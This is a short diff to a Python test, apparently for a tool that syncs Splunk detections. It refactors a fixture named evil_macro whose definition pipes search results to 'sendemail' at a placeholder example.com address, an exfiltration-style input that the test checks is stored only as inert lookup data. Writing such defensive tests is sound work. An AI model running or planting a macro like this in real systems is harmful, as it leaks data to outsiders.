@@ -172,7 +172,8 @@ def test_dangerous_searches_are_synced_only_as_lookup_data(out, tmp_path):
         )
         for i, spl in enumerate(DANGEROUS)
     ]  # fmt: skip
-    entries.append(H.regular("macros/evil_macro.yml", b"name: evil_macro\ndefinition: '| sendemail to=x@example.com'\n"))
+    evil_macro = b"name: evil_macro\ndefinition: '| sendemail to=x@example.com'\n"
+    entries.append(H.regular("macros/evil_macro.yml", evil_macro))
     code, summary, _ = _sync(out, H.tarball(entries))
     assert code == 0 and summary["outcome"] == "updated", summary["message"]
     rows = _detections(out)
